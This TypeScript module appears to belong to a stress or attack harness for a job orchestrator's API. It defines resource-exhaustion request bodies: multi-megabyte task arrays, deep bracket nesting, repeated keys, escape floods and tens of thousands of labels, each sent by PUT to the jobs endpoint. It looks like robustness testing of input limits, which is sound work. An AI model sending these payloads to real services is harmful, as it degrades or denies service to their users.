import { send, type Attack } from './attack.ts';

const JOBS = '/api/v1/orchestrator/jobs';
/** As much as one request may hold. */
const MOST = 9_900_000;

const task = '{"Name":"main","Engine":{"Type":"docker","Params":{"Image":"none"}}}';
const job = (fields: string) => `{"Job":{"Type":"batch",${fields}}}`;
const list = (item: string, times: number) => `[${`${item},`.repeat(times - 1)}${item}]`;
const map = (times: number, value: string) =>
  `{${Array.from({ length: times }, (_, i) => `"K${i}":${value}`).join(',')}}`;
const inTask = (field: string) => job(`"Tasks":[${task.slice(0, -1)},${field}}]`);

/** Submissions that are made to cost more than they should. */
const bodies: Readonly<Record<string, () => string>> = {
  'empty tasks, 9.9 MB': () => job(`"Tasks":${list('{}', MOST / 3)}`),
  '150,000 nulls': () => list('null', 150_000),
  '150,000 null tasks': () => job(`"Tasks":${list('null', 150_000)}`),
  'lists in lists, 9.9 MB': () => '['.repeat(MOST),
  'one key over and over': () => `{${'"Job":{},'.repeat(MOST / 9)}"Job":{}}`,
  'escapes, 9.9 MB': () => inTask(`"Meta":{"a":"${'\\u0061'.repeat(MOST / 6)}"}`),
  'an input of 9.9 MB': () => inTask(`"Meta":{"a":"data:${'x'.repeat(MOST)}"}`),
  'an input of escapes, 9.9 MB': () => inTask(`"Meta":{"a":"data:${'\\"'.repeat(MOST / 2)}"}`),
  'a digit, 900,000 times': () => inTask(`"Resources":{"Memory":"${'1'.repeat(900_000)}!"}`),
  'a domain of 900,000 characters': () => inTask(`"Network":{"Type":"HTTP","Domains":["${'a'.repeat(900_000)}"]}`),
  // As much of everything as the bounds let through.
  '10,000 labels': () => job(`"Tasks":[${task}],"Labels":${map(10_000, '"v"')}`),
  '49,000 labels': () => job(`"Tasks":[${task}],"Labels":${map(49_000, '"v"')}`),
  '49,000 wrong labels': () => job(`"Tasks":[${task}],"Labels":${map(49_000, '7')}`),
  '49,000 variables': () => inTask(`"Env":${map(49_000, '"v"')}`),
  '49,000 parameters': () => job(`"Tasks":[{"Engine":{"Params":${map(49_000, '1')}}}]`),
  'inputs, ports and paths in 16 tasks': () => {
    const rich = `{"InputSources":${list('{}', 1_000)},"Ports":[],"ResultPaths":${list('{}', 1_000)},"Network":{"Type":"Bridge","Ports":${list('{}', 1_000)}}}`;
    return job(`"Tasks":${list(rich, 16)}`);
  },
};

export const bodyAttacks: readonly Attack[] = Object.entries(bodies).map(([name, make]) => ({
  name,
  mode: 'open',
  arm: (target) => {
    const body = Buffer.from(make());
    return () => send(target, { method: 'PUT', path: JOBS, body });
  },
}));
